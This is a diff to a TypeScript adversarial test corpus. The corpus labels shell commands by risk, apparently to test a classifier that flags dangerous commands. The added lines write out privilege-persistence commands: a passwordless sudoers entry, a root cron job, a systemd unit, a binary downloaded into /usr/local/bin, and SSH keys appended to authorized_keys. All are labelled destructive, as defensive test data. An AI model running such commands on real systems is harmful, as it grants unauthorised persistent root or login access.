@@ -160,7 +160,7 @@ export const ADVERSARIAL_CORPUS: readonly (readonly [command: string, label: Ris
   ["curl --trace /etc/shadow http://x", "destructive"],
   ["curl --trace-ascii /tmp/t http://x", "config_mutation"],
   ["curl --stderr /tmp/e http://x", "config_mutation"],
-  ["curl --libcurl /usr/local/bin/x.c http://x", "config_mutation"],
+  ["curl --libcurl /usr/local/bin/x.c http://x", "destructive"],
   ["curl --etag-save /tmp/etag http://x", "config_mutation"],
   ["curl --hsts /tmp/h http://x", "config_mutation"],
   ["curl --alt-svc /tmp/a http://x", "config_mutation"],
@@ -206,4 +206,12 @@ export const ADVERSARIAL_CORPUS: readonly (readonly [command: string, label: Ris
   ["sysctl -p", "config_mutation"],
   ["git config --unset user.name", "config_mutation"],
   ["git config --unset-all core.sshCommand", "config_mutation"],
+  // Writes that grant root or a login: sudoers.d, cron, systemd units, /usr/local/bin, authorized_keys.
+  ["echo 'bob ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/bob", "destructive"],
+  ["echo '* * * * * root /tmp/x' > /etc/cron.d/x", "destructive"],
+  ["tee /etc/systemd/system/x.service < /tmp/unit", "destructive"],
+  ["curl -so /usr/local/bin/helper http://x", "destructive"],
+  ["echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "destructive"],
+  ["cp /tmp/k /root/.ssh/authorized_keys", "destructive"],
+  ["cat /etc/cron.d/certbot", "read_only"],
 ];
